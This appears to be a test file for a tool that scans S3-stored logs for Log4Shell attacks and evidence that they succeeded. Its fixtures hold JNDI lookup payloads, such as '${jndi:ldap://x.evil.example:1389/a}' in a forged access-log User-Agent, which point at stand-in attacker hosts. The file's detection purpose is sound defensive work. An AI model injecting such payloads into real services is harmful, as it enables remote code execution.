import { gzipSync } from 'node:zlib'
import { afterEach, expect, test } from 'vitest'
import { openS3, type S3Manners, type S3Server, s3Keys } from '../../../../test/kit/s3-server.ts'
import { tarOf } from '../../../../test/kit/tar.ts'
import type { AttackFinding, Gap } from '../../../core/index.ts'
import type { HuntOptions } from '../hunt.ts'
import { type BucketRequest, bucketPlaceOf, huntBucket } from './hunt-bucket.ts'

const open: S3Server[] = []
afterEach(async () => {
  await Promise.all(open.splice(0).map((server) => server.close()))
})

async function started(manners: S3Manners = {}): Promise<S3Server> {
  const server = await openS3(['logs'], manners)
  open.push(server)
  return server
}

const attack = (name: string): string => `x \${jndi:ldap://${name}.example/a}\n`

async function hunted(
  { endpoint }: S3Server,
  prefix = '',
  request: Partial<BucketRequest> = {},
  options: HuntOptions = {},
) {
  const findings: AttackFinding[] = []
  const gaps: Gap[] = []
  const notes: string[] = []
  const place = { places: [{ bucket: 'logs', prefix }], endpoint, keys: s3Keys, region: 'us-east-1', retryAfterMs: 1 }
  for await (const event of huntBucket({ ...place, ...request }, { workers: 1, ...options })) {
    if (event.is === 'finding') findings.push(event.finding)
    else if (event.is === 'gap') gaps.push(event.gap)
    else if (event.is === 'note') notes.push(event.text)
  }
  const found = findings.map(({ at, lookup }) => `${at.source}:${at.line} ${lookup.host?.replace('.example', '')}`)
  return { found: found.sort(), findings, gaps, notes }
}

test('objects are read by what they contain: text, packed, archived', async () => {
  const server = await started()
  await server.put('logs', 'web/a.log', `nothing\n${attack('a')}`)
  await server.put('logs', 'web/b', gzipSync(`nothing\n${attack('b')}`))
  await server.put('logs', 'c.tar', tarOf([{ name: 'in/c.log', content: attack('c') }]))
  await server.put('logs', 'empty', '')
  const { found, gaps } = await hunted(server)

  expect(found).toEqual(['s3://logs/c.tar!in/c.log:1 c', 's3://logs/web/a.log:2 a', 's3://logs/web/b:2 b'])
  expect(gaps).toEqual([])
})

test('only what the prefix names is fetched', async () => {
  const server = await started()
  for (const key of ['web/a', 'other/b']) await server.put('logs', key, attack(key.at(-1) ?? ''))
  const { found } = await hunted(server, 'web/')

  expect(found).toEqual(['s3://logs/web/a:1 a'])
  expect(server.heard.filter((line) => line.includes('other'))).toEqual([])
})

test('any name of an object is asked for and shown as it is', async () => {
  const server = await started()
  const keys = ['a b+c&d=e', "it's (1)*!.log", 'ä/é~_-.log', 'x%2Fy', '<&>"']
  for (const key of keys) await server.put('logs', key, attack('a'))
  const { found, gaps } = await hunted(server)

  expect(gaps).toEqual([])
  expect(found).toEqual(keys.map((key) => `s3://logs/${key}:1 a`).sort())
})

/** s3rver cannot list more than a page on this Node, so the way there answers as AWS documents it. */
test('more objects than a page lists are all read', async () => {
  const page = (key: string, next: string): string =>
    `<?xml version="1.0"?><ListBucketResult><IsTruncated>${next !== ''}</IsTruncated>${next}<Contents><Key>${key}</Key><Size>1</Size></Contents></ListBucketResult>`
  const server = await started({
    instead({ url = '' }, answer) {
      if (!url.includes('list-type=2')) return false
      const isSecond = url.includes('&continuation-token=1%2B%2F%3D')
      answer.end(isSecond ? page('b', '') : page('a', '<NextContinuationToken>1+/=</NextContinuationToken>'))
      return true
    },
  })
  for (const key of ['a', 'b']) await server.put('logs', key, attack(key))
  const { found } = await hunted(server)

  expect(found).toEqual(['s3://logs/a:1 a', 's3://logs/b:1 b'])
})

test('a listing that fails after its first page is a gap; what was listed is read', async () => {
  const server = await started({
    instead({ url = '' }, answer) {
      if (!url.includes('list-type=2')) return false
      if (url.includes('continuation-token')) answer.writeHead(403).end()
      else
        answer.end(
          '<ListBucketResult><IsTruncated>true</IsTruncated><NextContinuationToken>1</NextContinuationToken><Contents><Key>a</Key></Contents></ListBucketResult>',
        )
      return true
    },
  })
  await server.put('logs', 'a', attack('a'))
  const { found, gaps } = await hunted(server)

  expect(found).toEqual(['s3://logs/a:1 a'])
  expect(gaps).toMatchObject([{ at: 's3://logs/', because: 'not-readable' }])
})

test('a connection that breaks is taken up where it broke', async () => {
  const server = await started({ breakAfter: ({ headers }) => (headers.range === undefined ? 100_000 : 150_000) })
  await server.put('logs', 'a', `${'nothing\n'.repeat(50_000)}${attack('a')}`)
  const { found, gaps } = await hunted(server)

  expect(found).toEqual(['s3://logs/a:50001 a'])
  expect(gaps).toEqual([])
  expect(server.heard.filter((line) => line.includes('bytes=')).length).toBeGreaterThanOrEqual(2)
})

test('a connection that always breaks before anything came is a gap', async () => {
  const server = await started({ instead: ({ url }, answer) => url === '/logs/a' && Boolean(answer.destroy()) })
  await server.put('logs', 'a', attack('a'))
  const { gaps } = await hunted(server)

  expect(gaps).toMatchObject([{ at: 's3://logs/a', because: 'connection-lost' }])
})

test('an object that becomes another while it is read is a gap; what was read of it counts', async () => {
  const server = await started({
    breakAfter: ({ headers }) => (headers.range === undefined ? 200_000 : null),
    instead({ headers }, answer) {
      if (headers.range === undefined) return false
      answer.writeHead(206, { etag: '"another"', 'content-range': 'bytes 200000-200001/200002' }).end('xx')
      return true
    },
  })
  await server.put('logs', 'a', `${attack('a')}${'nothing\n'.repeat(50_000)}`)
  const { found, gaps } = await hunted(server)

  expect(found).toEqual(['s3://logs/a:1 a'])
  expect(gaps).toMatchObject([{ at: 's3://logs/a', because: 'changed' }])
})

test('what is packed and breaks for good is read as far as it came', async () => {
  let broken = 0
  const server = await started({
    breakAfter: () => (broken++ === 0 ? 3_000 : null),
    instead: (_asked, answer) => broken > 0 && Boolean(answer.writeHead(404).end()),
  })
  const noise = Array.from({ length: 20_000 }, (_, i) => `${Math.sin(i)}\n`).join('')
  await server.put('logs', 'a.gz', gzipSync(attack('a') + noise))
  const { found, gaps } = await hunted(server)

  expect(found).toEqual(['s3://logs/a.gz:1 a'])
  expect(gaps.map(({ because }) => because).sort()).toEqual(['truncated', 'vanished'])
})

test('an object that may not be read is a gap, with what the server said; others are read', async () => {
  const denied = '<?xml version="1.0"?><Error><Code>AccessDenied</Code><Message>Access &lt;Denied&gt;</Message></Error>'
  const server = await started({
    instead: ({ url }, answer) => url === '/logs/a' && Boolean(answer.writeHead(403).end(denied)),
  })
  for (const key of ['a', 'b']) await server.put('logs', key, attack(key))
  const { found, gaps } = await hunted(server)

  expect(found).toEqual(['s3://logs/b:1 b'])
  expect(gaps).toMatchObject([{ at: 's3://logs/a', because: 'not-readable' }])
  expect(gaps[0]?.detail).toContain('status 403, AccessDenied: Access <Denied>')
})

test('a redirect is not followed', async () => {
  const other = await started()
  const server = await started({
    instead: ({ url }, answer) =>
      url === '/logs/a' && Boolean(answer.writeHead(307, { location: new URL('/logs/a', other.endpoint).href }).end()),
  })
  await server.put('logs', 'a', attack('a'))
  const { gaps } = await hunted(server)

  expect(gaps).toMatchObject([
    { because: 'not-readable', detail: expect.stringContaining('only the endpoint') as string },
  ])
  expect(other.heard).toEqual([])
})

test('credentials that are wrong, a bucket that is not there and a server that is not there are problems', async () => {
  const server = await started()
  const keys = { ...s3Keys, accessKeyId: 'nobody' }
  await expect(hunted(server, '', { keys })).rejects.toMatchObject({ code: 'S3_REFUSED' })
  const places = [{ bucket: 'another', prefix: '' }]
  await expect(hunted(server, '', { places })).rejects.toMatchObject({ code: 'S3_REFUSED' })
  const endpoint = new URL('http://127.0.0.1:1')
  await expect(hunted(server, '', { endpoint })).rejects.toMatchObject({ code: 'S3_UNREACHABLE' })
})

test.each([
  ['s3://logs', 'logs', ''],
  ['s3://logs/', 'logs', ''],
  ['s3://logs/web/2021', 'logs', 'web/2021'],
])('%s', (word, bucket, prefix) => {
  expect(bucketPlaceOf(word)).toEqual({ bucket, prefix })
})

test.each([['/var/log'], ['s3:/logs'], ['s3://'], ['https://logs/']])('%s is no bucket', (word) => {
  expect(bucketPlaceOf(word)).toBeNull()
})

const query = (name: string): string =>
  `10-Dec-2021 12:43:12.416 queries: info: client @0x7f2a40 10.0.0.5#53211 (${name}): query: ${name} IN A + (10.0.0.53)\n`
const access = (host: string): string =>
  `203.0.113.83 - - [10/Dec/2021:12:43:11 +0000] "GET / HTTP/1.1" 200 612 "-" "\${jndi:ldap://${host}:1389/a}"\n`

test('what came of attacks is looked for in the objects that say who went out, packed or not', async () => {
  const server = await started()
  await server.put('logs', 'a/named.log', query('x.evil.example'))
  await server.put('logs', 'b/named.log.gz', gzipSync(query('y.evil.example')))
  await server.put('logs', 'c/dnsmasq.log', 'dnsmasq[812]: reply z.evil.example is 198.51.100.66\n')
  await server.put(
    'logs',
    'd/kern.log',
    '2021-12-10T12:43:12+00:00 fw kernel: [1.5] OUT: IN= OUT=eth0 SRC=10.0.0.5 DST=198.51.100.66 LEN=60 PROTO=TCP SPT=40000 DPT=1389 SYN\n',
  )
  await server.put('logs', 'e/access.log', ['x', 'y', 'z', 'w'].map((name) => access(`${name}.evil.example`)).join(''))
  const { findings, gaps, notes } = await hunted(server)

  expect(gaps).toEqual([])
  expect(
    findings.map(({ lookup, outcome, evidence }) => [
      lookup.host,
      outcome,
      ...evidence.flatMap((each) => (each.kind === 'witness' ? [each.source] : [])),
    ]),
  ).toEqual([
    ['x.evil.example', 'likely', 's3://logs/a/named.log'],
    ['y.evil.example', 'likely', 's3://logs/b/named.log.gz'],
    ['z.evil.example', 'likely', 's3://logs/d/kern.log'],
    ['w.evil.example', 'attempt'],
  ])
  expect(notes).toEqual([
    'what came of attacks was looked for in s3://logs/a/named.log, s3://logs/b/named.log.gz, s3://logs/c/dnsmasq.log, s3://logs/d/kern.log',
  ])
  const gets = server.heard.filter((line) => line.includes('access.log'))
  expect(gets).toHaveLength(1)
})

test('with a window of nothing each object is fetched once', async () => {
  const server = await started()
  await server.put('logs', 'named.log', query('x.evil.example'))
  await server.put('logs', 'access.log', access('x.evil.example'))
  const { findings, notes } = await hunted(server, '', {}, { windowMs: 0 })

  expect(findings.map(({ outcome }) => outcome)).toEqual(['attempt'])
  expect(notes).toEqual([])
  expect(server.heard.filter((line) => line.includes('named.log'))).toHaveLength(1)
})

test('what cannot be read is told once, though it is fetched twice', async () => {
  const server = await started()
  await server.put('logs', 'named.log.gz', gzipSync(query('x.evil.example').repeat(1_000)).subarray(0, 100))
  await server.put('logs', 'access.log', access('x.evil.example'))
  const { gaps } = await hunted(server)

  expect(gaps.map(({ at, because }) => `${at} ${because}`)).toEqual(['s3://logs/named.log.gz truncated'])
})
